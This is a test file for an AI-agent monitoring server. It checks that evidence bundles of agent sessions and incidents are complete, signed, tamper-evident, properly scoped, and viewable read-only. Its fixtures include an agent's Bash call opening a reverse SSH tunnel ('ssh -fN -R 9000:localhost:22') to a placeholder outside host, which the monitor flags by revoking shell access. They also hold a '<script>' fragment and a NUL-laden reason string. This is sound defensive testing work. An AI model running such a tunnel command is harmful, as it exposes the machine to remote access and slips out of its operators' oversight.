// An episode into a real server, its bundle out of it, checked, changed, and opened in a second server that knows nothing else.
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { downloadBundle } from '../cli/make-bundle.ts'
import { verifyToTerminal } from '../cli/verify-bundle.ts'
import { BundleSubject } from './bundle/manifest.ts'
import { SessionId } from './protocol/ids.ts'
import { incidentIdOf } from './protocol/incident.ts'
import { startForTest, type TestServer, testAdmin, testKey } from './start-for-test.ts'
import { subjectOfIncident } from './web/bundle-routes.ts'

const session = 'ep-bundle-1'
const other = 'ep-bundle-2'
let folder: string
let bundle: string
let server: TestServer
let key: string

beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'vigil-bundles-'))
  bundle = path.join(folder, 'it.tar')
  server = await startForTest()
  const atMs = Date.now() - 60_000
  const fact = (kind: string, data: object, of = session) =>
    JSON.stringify({ v: 1, kind, atMs, session: of, host: 'node-1', data })
  const body = [
    fact('session.started', { held: 'none', abilities: [], agent: 'coder', task: 'fix the tests' }),
    ...Array.from({ length: 40 }, (_, n) =>
      fact('message.recorded', { role: 'assistant', text: `line ${n}\n<script>` }),
    ),
    fact('action.started', {
      call: 'c1',
      tool: 'Bash',
      input: '{"command":"ssh -fN -R 9000:localhost:22 203.0.113.9"}',
    }),
    fact('action.ended', { call: 'c1', outcome: 'ok' }),
    fact('session.started', { held: 'none', abilities: [], task: 'a secret of somebody else' }, other),
  ].join('\n')
  const headers = { 'content-type': 'application/x-ndjson' }
  const sent = await server.api('/api/ingest/events', { method: 'POST', headers, body })
  expect(await sent.json()).toMatchObject({ accepted: 44, rejected: 0 })
  const call = { session, callId: 'c2', tool: 'Bash', input: { command: 'ls' } }
  await server.api('/api/gate', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(call),
  })
  const asked = await server.api(`/api/sessions/${session}/controls`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ action: 'revoke', capability: 'shell', reason: 'a tunnel' }),
  })
  expect(asked.status, await asked.text()).toBe(202)
  key = ((await (await server.api('/api/bundle-key')).json()) as { key: string }).key
  await downloadBundle({ url: server.url, key: testKey }, { session: [session], output: bundle }, quiet)
})
afterAll(async () => {
  await server?.stop()
  await rm(folder, { recursive: true, force: true })
})

const quiet = { out: () => undefined, explain: () => undefined }
function verify(file: string, pin?: string) {
  let said = ''
  const code = verifyToTerminal(file, pin === undefined ? {} : { key: pin }, {
    out: (text) => (said += text),
    explain: () => undefined,
  })
  return { code, said }
}

/** A file with what the server answers there. */
async function fetched(where: string): Promise<string> {
  const answer = await server.api(where)
  expect(answer.status, where).toBe(200)
  const file = path.join(folder, `${where.replace(/\W/g, '-')}.tar`)
  await writeFile(file, Buffer.from(await answer.arrayBuffer()))
  return file
}

describe('a bundle of a session', () => {
  it('is whole, and signed with the key that the server shows', () => {
    const { code, said } = verify(bundle, key)
    expect(said).toContain('whole: all ')
    expect(said).toContain(`${key} (the key you gave)`)
    expect(code).toBe(0)
  })

  it('holds every event of the session as the log has it, and nothing of another session', async () => {
    const text = await readFile(bundle, 'utf8')
    const { events } = (await (await server.api(`/api/sessions/${session}/events?after=0&limit=5000`)).json()) as {
      events: { id: string; seq: number; seenAtMs: number; trust: string }[]
    }
    expect(events.length).toBeGreaterThan(42)
    for (const { id, seq, seenAtMs, trust } of events) {
      expect(text).toContain(`"seq":${seq},"id":"${id}","seenAtMs":${seenAtMs}`)
      expect(trust).toBeTruthy()
    }
    expect(text).not.toContain('a secret of somebody else')
  })

  it('names the one byte that was changed afterwards, with its line', async () => {
    const bytes = await readFile(bundle)
    const at = bytes.indexOf('fix the tests')
    bytes[at] = 'm'.charCodeAt(0)
    const changed = path.join(folder, 'changed.tar')
    await writeFile(changed, bytes)
    const { code, said } = verify(changed)
    expect(code).toBe(1)
    expect(said).toContain(`NOT WHOLE: byte ${at} is 0x6d "m", was 0x66 "f": events.ndjson line 1`)
  })

  it('is found out when it is cut', async () => {
    const bytes = await readFile(bundle)
    const cut = path.join(folder, 'cut.tar')
    await writeFile(cut, bytes.subarray(0, bytes.length - 700))
    const { code, said } = verify(cut)
    expect(code).toBe(1)
    expect(said).toContain(`NOT WHOLE: it ends at byte ${bytes.length - 700}`)
  })

  it('is not by the key that was asked for when another installation made it', () => {
    const { code, said } = verify(bundle, 'ab'.repeat(32))
    expect(code).toBe(1)
    expect(said).toContain('NOT BY THE KEY YOU GAVE')
  })

  it('is said in the audit, and leaves no file behind', async () => {
    const { entries } = (await (await server.api('/api/audit?q=bundle.made')).json()) as { entries: { body: string }[] }
    expect(entries[0]?.body).toContain(session)
    expect(await readdir(path.join(server.dataDir, 'bundles'))).toEqual([])
  })

  it('is refused to who may only read, and of a session that nobody knows', async () => {
    const made = await server.api('/api/keys', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ name: 'reader', scopes: ['read'] }),
    })
    const authorization = `Bearer ${((await made.json()) as { key: string }).key}`
    expect((await server.api(`/api/bundle?session=${session}`, { headers: { authorization } })).status).toBe(403)
    expect((await server.api('/api/bundle?session=nobody')).status).toBe(404)
  })
})

describe('a bundle that is asked for at the edges of what is a time', () => {
  it('is refused with the reason, and one that begins with the first moment there is can be checked', async () => {
    for (const bound of ['from=0', `to=${Date.UTC(2101, 0)}`]) {
      const refused = await server.api(`/api/bundle?session=${session}&${bound}`)
      expect([refused.status, await refused.text()]).toEqual([422, expect.stringMatching(/before the year 2000|after/)])
    }
    const file = await fetched(`/api/bundle?session=${session}&from=${Date.UTC(2000, 0)}&to=${Date.UTC(2099, 0)}`)
    expect(verify(file, key).code).toBe(0)
  })
})

describe('what an incident’s bundle is asked to be of', () => {
  it('is always what a check can read, however long rules made its title and whatever the clocks said', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 2_000 }), time(), time(), (title, firstAtMs, detectedAtMs) => {
        const found = { title, sessions: [SessionId.parse(session)], firstAtMs, detectedAtMs }
        const of = subjectOfIncident(() => found, incidentIdOf(1))
        expect(BundleSubject.parse(of)).toEqual(of)
        expect(of.fromMs).toBeLessThanOrEqual(detectedAtMs)
      }),
    )
  })
})
const time = () => fc.integer({ min: Date.UTC(2000, 0), max: Date.UTC(2100, 0) })

describe('a bundle of an incident', () => {
  const tunnel = (of: string, atMs: number) => {
    const data = { call: 't1', tool: 'Bash', input: `ssh -fN -R 9000:localhost:22 ${of}@203.0.113.77` }
    return [
      { v: 1, kind: 'session.started', atMs, session: of, data: { held: 'none', abilities: [], agent: of } },
      { v: 1, kind: 'action.started', atMs, session: of, data },
    ]
  }
  const json = { 'content-type': 'application/json' }
  const change = (incident: string, wish: object) =>
    server.api(`/api/incidents/${incident}/changes`, { method: 'POST', headers: json, body: JSON.stringify(wish) })
  /** Its incident, once it has formed. */
  async function raised(of: string, atMs: number): Promise<string> {
    const body = tunnel(of, atMs)
      .map((each) => JSON.stringify(each))
      .join('\n')
    await server.api('/api/ingest/events', { method: 'POST', body })
    const find = async () =>
      (
        (await (await server.api(`/api/incidents?session=${of}`)).json()) as {
          incidents: { incident: string }[]
        }
      ).incidents[0]
    return vi.waitFor(
      async () => {
        const found = await find()
        if (!found) throw new Error(`no incident of ${of} yet`)
        return found.incident
      },
      { timeout: 10_000 },
    )
  }

  it.each([
    ['near the year 2000', Date.UTC(2000, 0, 1, 0, 1)],
    ['ten years ahead', Date.now() + 10 * 365 * 86_400_000],
  ])('has its evidence, whole, and a timeline with it, from an agent whose clock is %s', async (when, atMs) => {
    const of = `ep-clock-${when.replaceAll(' ', '-')}`
    const incident = await raised(of, atMs)
    const file = await fetched(`/api/incidents/${incident}/bundle`)
    expect(verify(file, key).code).toBe(0)
    expect(await readFile(file, 'utf8')).toContain(`${of}@203.0.113.77`)
    const timeline = (await (await server.api(`/api/incidents/${incident}/timeline`)).json()) as {
      items: { lane: string; label: string }[]
    }
    expect(timeline.items.some(({ lane, label }) => lane === 'agent' && label.includes('ssh -fN'))).toBe(true)
  })

  /** As the gate's door enforces it: the session has asked there. */
  async function hold(of: string, reason: string): Promise<void> {
    const call = { session: of, callId: 'g1', tool: 'Bash', input: { command: 'ls' } }
    await server.api('/api/gate', { method: 'POST', headers: json, body: JSON.stringify(call) })
    const wish = { action: 'revoke', capability: 'shell', reason }
    const body = JSON.stringify(wish)
    const sent = await server.api(`/api/sessions/${of}/controls`, { method: 'POST', headers: json, body })
    expect(sent.status, await sent.text()).toBe(202)
  }

  it('holds no foreign deed because an agent calls its session like a word of our own, and still its own deeds', async () => {
    const ofAnother = await raised('ep-another', Date.now())
    await change(ofAnother, { type: 'note', text: 'a note on somebody else' })
    for (const name of ['operator', 'incident', 'by']) {
      await raised(name, Date.now())
      const made = { name: 'a key of somebody', scopes: ['read'] }
      await server.api('/api/keys', { method: 'POST', headers: json, body: JSON.stringify(made) })
      await hold(name, `hold ${name}`)
      const text = (await readFile(await fetched(`/api/bundle?session=${name}`))).toString()
      expect(text.includes(`hold ${name}`)).toBe(true)
      expect(text.includes('a key of somebody')).toBe(false)
      expect(text.includes('a note on somebody else')).toBe(false)
    }
  })

  it('is made though somebody gave a reason with a NUL in it', async () => {
    await raised('ep-nul', Date.now())
    await hold('ep-nul', 'a tunnel\0')
    expect(verify(await fetched('/api/bundle?session=ep-nul'), key).code).toBe(0)
  })

  describe('that is opened', () => {
    let incident: string
    let file: string
    let shown: TestServer
    beforeAll(async () => {
      // given: two that are alike; nothing of the second one's notes belongs to the first one's bundle
      incident = await raised('ep-noted', Date.now())
      const beside = await raised('ep-beside', Date.now())
      await change(incident, { type: 'note', text: 'The far end is not ours.' })
      await change(beside, { type: 'note', text: 'a note on the one beside' })
      await change(incident, { type: 'resolve', verdict: 'true', reason: 'ended by hand' })
      file = await fetched(`/api/incidents/${incident}/bundle`)
      shown = await startForTest({ VIGIL_BUNDLE: file, VIGIL_BUNDLE_KEY: key })
    })
    afterAll(() => shown?.stop())

    it('has the incident: what was noted, what was decided, and its flags', async () => {
      const of = async (from: TestServer) =>
        (await (await from.api(`/api/incidents/${incident}`)).json()) as Record<string, unknown>
      const { log, title, status, verdict, flagCount } = await of(server)
      expect([verdict, flagCount]).toEqual(['true', 1])
      expect(await of(shown)).toMatchObject({ log, title, status, verdict, flagCount })
    })

    it('has the deeds of that incident in its audit, and none of another', async () => {
      expect(await (await shown.api('/api/audit?q=incident.changed')).text()).toContain('The far end is not ours.')
      expect((await readFile(file)).includes('a note on the one beside')).toBe(false)
    })
  })
})

describe('a console that shows a bundle', () => {
  let shown: TestServer
  beforeAll(async () => {
    shown = await startForTest({ VIGIL_BUNDLE: bundle, VIGIL_BUNDLE_KEY: key })
  })
  afterAll(() => shown?.stop())

  it('has the session as the first server has it: the same facts through the same reducer', async () => {
    const of = async (from: TestServer) => (await (await from.api(`/api/sessions/${session}`)).json()) as unknown
    expect(await of(shown)).toEqual(await of(server))
  })

  it('has each event with its own number, times and trust', async () => {
    const of = async (from: TestServer) =>
      (await from.api(`/api/sessions/${session}/events?after=0&limit=5000`)).json() as Promise<{ events: unknown[] }>
    expect((await of(shown)).events.length).toBeGreaterThan(42)
    expect(await of(shown)).toEqual(await of(server))
  })

  it('refuses whatever would change something, by every door', async () => {
    const headers = { 'content-type': 'application/json' }
    const post = (to: string, body: object) => shown.api(to, { method: 'POST', headers, body: JSON.stringify(body) })
    const answers = await Promise.all([
      post('/api/ingest/events', {
        v: 1,
        kind: 'session.started',
        atMs: 1,
        session: 'x',
        data: { held: 'none', abilities: [] },
      }),
      post(`/api/sessions/${session}/controls`, { action: 'pause' }),
      post('/api/gate', { session, callId: 'c9', tool: 'Bash', input: {} }),
      post('/api/keys', { name: 'x', scopes: ['read'] }),
      shown.api(`/api/bundle?session=${session}`),
    ])
    for (const answer of answers) {
      expect(answer.status).toBe(403)
      expect(await answer.text()).toContain('this console shows a bundle')
    }
  })

  it('lets its reader in as a viewer, and says what it shows', async () => {
    const { email, password } = testAdmin
    const signedIn = await fetch(`${shown.url}/api/auth/sign-in/email`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', origin: shown.url },
      body: JSON.stringify({ email, password }),
    })
    const cookie = signedIn.headers
      .getSetCookie()
      .map((each) => each.split(';')[0])
      .join('; ')
    const me = await fetch(`${shown.url}/api/me`, { headers: { cookie } })
    expect(await me.json()).toMatchObject({
      operator: { role: 'viewer' },
      shows: { name: 'it.tar', sessions: [session], whole: true, pin: 'matches', key, unreadable: 0 },
    })
  })
})
